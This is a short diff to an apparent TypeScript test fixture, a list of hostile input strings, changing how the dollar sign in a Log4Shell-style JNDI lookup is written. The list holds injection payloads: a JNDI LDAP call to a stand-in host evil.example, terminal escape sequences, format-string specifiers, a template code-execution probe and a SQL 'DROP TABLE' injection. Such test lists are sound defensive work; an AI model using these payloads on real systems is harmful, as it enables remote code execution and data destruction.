@@ -64,7 +64,7 @@ const ORDERS: readonly string[] = [
   'event: match\ndata: {}\n\nid: 99\nretry: 0\n\n',
   // Terminals and formats.
   '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b[2J\u001b[31mcleared',
-  '%s%n%x $' + '{jndi:ldap://evil.example/a} {{constructor.constructor("return 1")()}}',
+  '%s%n%x \u0024{jndi:ldap://evil.example/a} {{constructor.constructor("return 1")()}}',
   "'; DROP TABLE matches; -- \\u003cscript\\u003e",
 ];
 
